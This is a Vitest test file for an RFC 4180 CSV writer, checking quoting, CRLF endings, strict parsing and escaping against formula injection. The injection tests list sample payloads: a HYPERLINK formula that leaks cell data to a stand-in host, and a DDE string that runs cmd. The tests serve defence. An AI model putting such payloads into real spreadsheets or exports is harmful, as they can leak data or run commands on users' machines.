/**
 * The CSV writer is RFC 4180: CRLF after every record, fields quoted only
 * when they must be, quotes doubled; anything written reads back unchanged.
 */
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../api/sla-csv.js';
import { parseRfc4180 } from '../helpers/rfc4180.js';

describe('RFC 4180 CSV', () => {
  it('quotes only fields holding a comma, a quote, CR or LF, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(0.001)).toBe('0.001');
    expect(csvField(true)).toBe('true');
  });

  it('ends every record with CRLF, header included', () => {
    expect(toCsv(['a', 'b'], [[1, 'x'], [null, 'y']])).toBe('a,b\r\n1,x\r\n,y\r\n');
  });

  it('round-trips awkward values through a strict reader', () => {
    const header = ['id', 'name', 'value'];
    const rows = [
      ['charlie~echo', 'Charlie, "the" – Echo 回声', '0.9984953703703704'],
      ['x', 'line one\r\nline two', ''],
      ['y', '"', ','],
      ['z', ' leading and trailing ', 'ünïcödé'],
    ];
    const parsed = parseRfc4180(toCsv(header, rows));
    expect(parsed).toEqual([header, ...rows]);
  });

  it('the reader is strict: bare LF, stray quotes and ragged records are errors', () => {
    expect(() => parseRfc4180('a,b\n1,2\n')).toThrow(/CRLF/);
    expect(() => parseRfc4180('a,b\r\n1,x"y\r\n')).toThrow(/quote inside/);
    expect(() => parseRfc4180('a,b\r\n1\r\n')).toThrow(/fields/);
    expect(() => parseRfc4180('a,b\r\n1,2')).toThrow(/CRLF/);
  });
});

describe('CSV formula injection (OWASP)', () => {
  it('a text field starting with = + - @ tab or CR is written with a leading quote mark, quoted, and reads back with it', () => {
    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    for (const a of attacks) {
      const field = csvField(a);
      expect(field.startsWith(`"'`)).toBe(true);
      expect(parseRfc4180(toCsv(['name'], [[a]]))[1]).toEqual([`'${a}`]);
    }
  });

  it('numbers, negative ones included, and ordinary text are unchanged', () => {
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField('Lingang')).toBe('Lingang');
    expect(csvField('a=b')).toBe('a=b');
  });
});
